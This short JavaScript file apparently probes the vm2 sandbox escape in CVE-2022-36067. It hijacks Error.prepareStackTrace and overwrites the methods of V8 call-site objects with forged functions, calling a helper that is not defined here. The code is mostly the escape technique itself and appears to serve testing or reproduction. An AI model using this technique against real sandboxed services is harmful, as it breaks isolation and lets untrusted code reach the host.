// Replaces the methods of call sites and watches who calls them.
// advisory: CVE-2022-36067 (vm2)
let proto;
Error.prepareStackTrace = (error, list) => { proto ??= list[0] && Object.getPrototypeOf(list[0]); return ''; };
new Error('x').stack;
console.log('ATTEMPTED');
for (const name of Object.getOwnPropertyNames(proto ?? {})) {
  try { Object.defineProperty(proto, name, { value() { reach(this); return 'forged'; } }); } catch (error) { console.log(error.name); }
}
delete Error.prepareStackTrace;
throw new Error('printed by the host');
